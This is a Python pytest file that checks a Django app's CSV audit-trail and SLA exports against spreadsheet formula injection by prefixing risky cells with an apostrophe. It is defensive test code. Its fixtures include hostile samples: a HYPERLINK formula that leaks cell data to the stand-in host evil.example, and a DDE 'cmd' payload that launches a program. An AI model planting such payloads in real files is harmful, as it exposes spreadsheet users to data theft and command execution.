"""Every CSV Trilho writes opens in a spreadsheet as data: a cell that would start a formula is
written with a leading apostrophe (pipes/csvsafe.py), in the audit trails and the SLA exports."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from pipes import services
from pipes.csvsafe import csv_cell, csv_safe_writer
from pipes.models import Card
from tests.personas import PASSWORD, good_start_values

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_disarmed(rows: list[list[str]], value: str) -> None:
    cells = _cells(rows)
    assert "'" + value in cells, cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells


@pytest.fixture
def hostile_card(world):
    """A public-form title that is a formula, commented on by a person whose name is one."""
    card = services.card_create(
        actor=services.Actor.for_user(world.requester),
        pipe=world.pipe,
        values=good_start_values(item=HOSTILE),
    )
    world.member.first_name = "@SUM(1+1)"
    world.member.save()
    services.card_comment(
        actor=services.Actor.for_user(world.member), card=card, text="-2+3+cmd|' /C calc'!A0"
    )
    return Card.objects.get(pk=card.pk)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("Plain", "Plain"),
        (-3, -3),
        (None, None),
    ],
)
def test_it_disarms_only_cells_that_would_start_a_formula(value, written):
    assert csv_cell(value) == written


def test_it_writes_rows_through_the_same_cell_rule():
    out = io.StringIO()

    csv_safe_writer(out).writerow(["=cmd", "ok", 7])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd", "ok", "7"]]


@pytest.mark.parametrize("level", ["card", "pipe", "org"])
def test_it_disarms_formulas_in_audit_trail_exports(client, world, hostile_card, level):
    url = {
        "card": f"/governance/cards/{hostile_card.pk}/audit/",
        "pipe": f"/governance/pipes/{world.pipe.pk}/audit/",
        "org": "/governance/orgs/acme/audit/",
    }[level]
    assert client.login(username="owner", password=PASSWORD)

    rows = _rows(client.get(url, {"export": "csv"}))

    cells = _cells(rows)
    assert "'-2+3+cmd|' /C calc'!A0" in cells  # the comment
    assert any(c.startswith("'@SUM(1+1)") for c in cells)  # the commenter
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells


def _late(world, card: Card) -> str:
    Card.objects.filter(pk=card.pk).update(phase_entered_at=timezone.now() - dt.timedelta(hours=30))
    card.phase_entries.update(entered_at=timezone.now() - dt.timedelta(hours=30))
    return timezone.now().astimezone(dt.timezone(dt.timedelta(hours=-3))).strftime("%Y-%m")


def test_it_disarms_a_formula_title_in_the_sla_late_cards_export(client, world, hostile_card):
    month = _late(world, hostile_card)
    assert client.login(username="admin", password=PASSWORD)

    rows = _rows(client.get(f"/governance/pipes/{world.pipe.pk}/sla/", {"month": month, "export": "late"}))

    assert rows[1][0] == hostile_card.reference
    _assert_disarmed(rows, HOSTILE)


def test_it_disarms_formula_names_in_the_sla_summary_export(client, world):
    world.pipe.name = "+Purchases"
    world.pipe.save()
    world.pipe.phases.filter(key="triage").update(name="@Triage")
    assert client.login(username="admin", password=PASSWORD)

    rows = _rows(client.get(f"/governance/pipes/{world.pipe.pk}/sla/", {"export": "summary"}))

    assert rows[1][0] == "'+Purchases" and rows[1][2] == "'@Triage"
    _assert_disarmed(rows, "+Purchases")
